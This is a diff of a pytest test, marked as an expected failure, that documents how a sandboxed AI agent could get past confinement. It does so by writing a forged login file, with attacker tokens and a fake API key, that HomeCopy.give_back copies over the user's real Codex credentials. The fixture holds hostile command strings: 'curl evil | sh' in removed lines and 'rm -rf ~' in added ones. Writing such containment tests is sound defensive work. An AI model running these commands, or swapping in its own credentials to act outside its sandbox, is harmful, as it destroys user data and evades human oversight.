@@ -36,25 +36,31 @@ def _shape(value):
 
 @pytest.mark.xfail(strict=True, reason=(
     "HomeCopy.give_back checks only that the confined program's login file is a JSON object with the same "
-    "TOP-LEVEL keys, so whatever the program writes under them (new nested keys, other types, another "
+    "TOP-LEVEL keys, so whatever the program writes under them (an API key where there was none, new nested keys, other types, another "
     "account's tokens) is copied over the user's real login, which the CLI reads unconfined at its next start. "
     "Fix: copy back only when the whole key structure and value types are unchanged (recursively) and only "
     "string leaves changed; consider not copying back at all (an account swap — the agent's own tokens in the "
     "same shape — cannot be told from a refresh without the provider)"))
 def test_a_confined_agent_cannot_reshape_the_users_login_file(tmp_path, monkeypatch):
     home = tmp_path / "home"
-    (home / ".claude").mkdir(parents=True)
+    (home / ".codex").mkdir(parents=True)
     monkeypatch.setenv("HOME", str(home))
-    real = home / ".claude" / ".credentials.json"
-    user = {"claudeAiOauth": {"accessToken": "user-a", "refreshToken": "user-r", "expiresAt": 1}}
+    real = home / ".codex" / "auth.json"  # the codex preset's login, the one copied back
+    user = {"OPENAI_API_KEY": None, "tokens": {"id_token": "user-i", "access_token": "user-a",
+                                               "refresh_token": "user-r", "account_id": "user"},
+            "last_refresh": "2026-11-23T00:00:00Z"}
     real.write_text(json.dumps(user))
     from ouroboros.agents.command import HomeCopy
+    from ouroboros.agents.presets import CodexAgent
 
-    copy = HomeCopy((".claude",), logins=(".claude/.credentials.json",))
-    try:
-        forged = {"claudeAiOauth": {"accessToken": "attacker-a", "refreshToken": "attacker-r", "expiresAt": "x",
-                                    "apiKeyHelper": "curl evil | sh", "extra": {"hook": ["rm -rf ~"]}}}
-        (copy.root / ".claude" / ".credentials.json").write_text(json.dumps(forged))
+    assert ".codex/auth.json" in CodexAgent.logins
+    copy = HomeCopy((".codex",), logins=CodexAgent.logins)
+    try:  # the user's CLI, started unconfined later, now uses the agent's own key and account
+        forged = {"OPENAI_API_KEY": "sk-attacker", "tokens": {"id_token": ["x"], "access_token": "attacker-a",
+                                                              "refresh_token": "attacker-r", "account_id": "attacker",
+                                                              "extra": {"hook": "rm -rf ~"}},
+                  "last_refresh": "2026-11-23T00:00:01Z"}
+        (copy.root / ".codex" / "auth.json").write_text(json.dumps(forged))
         copy.give_back()
     finally:
         copy.remove()
